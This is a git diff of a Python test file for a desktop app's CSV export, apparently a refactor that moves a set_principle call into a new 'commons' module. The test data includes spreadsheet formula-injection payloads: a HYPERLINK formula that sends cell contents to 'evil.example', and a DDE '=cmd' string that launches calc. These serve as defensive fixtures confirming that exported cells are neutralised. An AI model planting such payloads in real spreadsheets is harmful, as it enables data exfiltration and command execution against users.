@@ -16,7 +16,7 @@ import pytest
 from lieuxcommuns_desktop.core import csv_io, csv_safe, matrix_export
 from lieuxcommuns_desktop.core import model as m
 from lieuxcommuns_desktop.core.enums import MatrixVersion
-from lieuxcommuns_desktop.core.services import matrices, records
+from lieuxcommuns_desktop.core.services import commons, matrices, records
 
 HOSTILE = [
     "=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")",
@@ -98,7 +98,7 @@ def test_matrix_csvs_are_inert(notebook, tmp_path: Path) -> None:
     matrices.set_columns(notebook, atelier.id, "decisions", ids)
     matrices.add_row(notebook, atelier.id, "roles", "=HYPERLINK(\"x\")")
     matrices.add_row(notebook, atelier.id, "decisions", "@SUM(1)")
-    matrices.set_principle(notebook, atelier.id, 1, note="=1+1")
+    commons.set_principle(notebook, atelier.id, 1, note="=1+1")
     written = matrix_export.export_atelier_matrices(notebook, atelier.id, tmp_path / "csv")
     cells = [c for path in written for c in _cells(path)]
     assert "'=cmd|' /C calc'!A0" in cells and "'=HYPERLINK(\"x\")" in cells
